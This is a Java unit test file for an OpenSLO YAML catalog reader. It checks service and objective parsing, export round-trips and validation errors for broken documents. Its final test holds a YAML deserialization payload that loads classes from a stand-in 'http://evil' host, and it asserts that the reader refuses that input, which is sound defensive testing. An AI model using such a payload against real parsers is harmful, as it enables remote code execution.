package dev.plumbline.collectors.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import dev.plumbline.sql.catalog.CatalogEntry;
import dev.plumbline.sql.catalog.Indicator;
import dev.plumbline.sql.catalog.Objective;
import dev.plumbline.sql.catalog.ObjectiveWindow;
import dev.plumbline.sql.catalog.Service;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;

class OpenSloReaderTest {

    static List<OpenSloReader.Source> samples() throws IOException {
        return List.of(source("search.yaml"), source("billing.yml"));
    }

    static OpenSloReader.Source source(String file) throws IOException {
        try (InputStream in = OpenSloReaderTest.class.getResourceAsStream("/openslo/" + file)) {
            return new OpenSloReader.Source(file, new String(in.readAllBytes(), StandardCharsets.UTF_8));
        }
    }

    @Test
    void services_and_objectives_are_read_as_a_platform_team_writes_them() throws IOException {
        Catalog catalog = OpenSloReader.read(samples());

        assertThat(catalog.problems()).isEmpty();
        assertThat(catalog.services()).containsExactly(
                new Service("search", "Search", "Full-text search over customer documents", "discovery", "tier-1", 4,
                        "https://runbooks.example.com/search"),
                new Service("billing", "billing", "Invoices and payments", "finance-eng", "", 1));
        assertThat(catalog.objectives()).containsExactly(
                new Objective("search", "availability", Indicator.AVAILABILITY, 0.999, null, ObjectiveWindow.rolling(28)),
                new Objective("search", "latency-p95", Indicator.LATENCY, 0.95, 800.0, ObjectiveWindow.CALENDAR_MONTH),
                new Objective("search", "latency-p99", Indicator.LATENCY, 0.99, 2000.0, ObjectiveWindow.CALENDAR_MONTH),
                new Objective("billing", "availability", Indicator.AVAILABILITY, 0.9995, null, ObjectiveWindow.rolling(30)));
    }

    @Test
    void an_export_reads_back_to_the_same_catalog_and_exports_the_same_again() throws IOException {
        Catalog original = OpenSloReader.read(samples());
        Map<String, List<Objective>> byService = original.objectives().stream()
                .collect(Collectors.groupingBy(Objective::service));
        List<CatalogEntry> entries = original.services().stream()
                .map(s -> new CatalogEntry(s, byService.getOrDefault(s.name(), List.of()))).toList();

        String exported = OpenSloWriter.write(entries);
        Catalog reread = OpenSloReader.read(List.of(new OpenSloReader.Source("export.yaml", exported)));

        assertThat(reread.problems()).isEmpty();
        assertThat(reread.services()).isEqualTo(original.services());
        assertThat(reread.objectives()).containsExactlyInAnyOrderElementsOf(original.objectives());
        List<CatalogEntry> again = reread.services().stream().map(s -> new CatalogEntry(s,
                reread.objectives().stream().filter(o -> o.service().equals(s.name())).toList())).toList();
        assertThat(OpenSloWriter.write(again)).isEqualTo(exported);
    }

    static java.util.stream.Stream<org.junit.jupiter.params.provider.Arguments> brokenDocuments() {
        return java.util.stream.Stream.of(
                org.junit.jupiter.params.provider.Arguments.of("target above one", "target: 0.999", "target: 1.5", "search.yaml: $[1].spec.objectives[0].target: must be between 0 and 1 (e.g. 0.999), was 1.5; a percentage goes in targetPercent"),
                org.junit.jupiter.params.provider.Arguments.of("unknown service", "  service: search\n  indicator:\n    metadata:\n      name: search-availability-sli", "  service: serch\n  indicator:\n    metadata:\n      name: search-availability-sli", "search.yaml: $[1].spec.service: unknown service 'serch': define it in a kind: Service document of this catalog"),
                org.junit.jupiter.params.provider.Arguments.of("rolling window too long", "duration: 28d", "duration: 400d", "search.yaml: $[1].spec.timeWindow[0].duration: a rolling window is whole days, 1d to 366d (e.g. 28d, 4w, 1M as 30d), was '400d'"),
                org.junit.jupiter.params.provider.Arguments.of("wrong api version", "apiVersion: openslo/v1\nkind: Service", "apiVersion: openslo/v2\nkind: Service", "search.yaml: $[0].apiVersion: must be openslo/v1, was 'openslo/v2'"),
                org.junit.jupiter.params.provider.Arguments.of("latency op", "op: lte\n      value: 800", "op: gte\n      value: 800", "search.yaml: $[2].spec.objectives[0].op: must be lte (a request is good when it takes at most value ms), was 'gte'"),
                org.junit.jupiter.params.provider.Arguments.of("effort not a number", "\"4\"", "\"four\"", "search.yaml: $[0].metadata.annotations.plumbline.dev/effort-weeks: must be a number, was 'four'"),
                org.junit.jupiter.params.provider.Arguments.of("runbook not a web address", "https://runbooks.example.com/search", "ftp://runbooks/search", "search.yaml: $[0].metadata.annotations.plumbline.dev/runbook-url: must be an absolute http or https URL of at most 2000 characters (the on-call runbook), was 'ftp://runbooks/search'"),
                org.junit.jupiter.params.provider.Arguments.of("bad name", "name: search\n  displayName", "name: Search_Service\n  displayName", "search.yaml: $[0].metadata.name: 'Search_Service' is not a valid name (lower case letters, digits, '-' and '.', at most 63)"),
                org.junit.jupiter.params.provider.Arguments.of("calendar window", "duration: 1M", "duration: 1w", "search.yaml: $[2].spec.timeWindow[0].duration: a calendar window is 1M, 1Q or 1Y (the calendar month, quarter or year, UTC), was '1w'; days and weeks make a rolling window (isRolling: true)"),
                org.junit.jupiter.params.provider.Arguments.of("unknown kind", "kind: Service", "kind: DataSource", "search.yaml: $[0].kind: kind 'DataSource' is not read by Plumbline; use Service, SLO (indicators inline), AlertPolicy, AlertCondition or AlertNotificationTarget"),
                org.junit.jupiter.params.provider.Arguments.of("objectives not a list", "  objectives:\n    - displayName: 99.9% of requests succeed\n      target: 0.999", "  objectives: 0.999", "search.yaml: $[1].spec.objectives: must be a list, was '0.999'"));
    }

    @ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.MethodSource("brokenDocuments")
    void a_broken_document_is_refused_naming_file_and_yaml_path(String what, String from, String to, String expected)
            throws IOException {
        String original = source("search.yaml").text();
        assertThat(original).contains(from);
        String text = original.replace(from, to);

        Catalog catalog = OpenSloReader.read(List.of(new OpenSloReader.Source("search.yaml", text)));

        assertThat(catalog.problems()).extracting(CatalogProblem::toString).contains(expected);
    }

    @Test
    void a_duplicate_key_and_broken_yaml_are_refused_with_the_line() {
        Catalog duplicate = OpenSloReader.read(List.of(new OpenSloReader.Source("d.yaml",
                "apiVersion: openslo/v1\nkind: Service\nkind: SLO\n")));
        Catalog broken = OpenSloReader.read(List.of(new OpenSloReader.Source("b.yaml", "apiVersion: [openslo/v1\n")));

        assertThat(duplicate.problems()).singleElement().asString().startsWith("d.yaml: line 3: not valid YAML: found duplicate key kind");
        assertThat(broken.problems()).singleElement().asString().startsWith("b.yaml: line");
    }

    @Test
    void yaml_that_tries_to_build_java_objects_is_refused() {
        Catalog catalog = OpenSloReader.read(List.of(new OpenSloReader.Source("x.yaml",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]\n")));

        assertThat(catalog.problems()).singleElement().asString().contains("not valid YAML");
    }
}
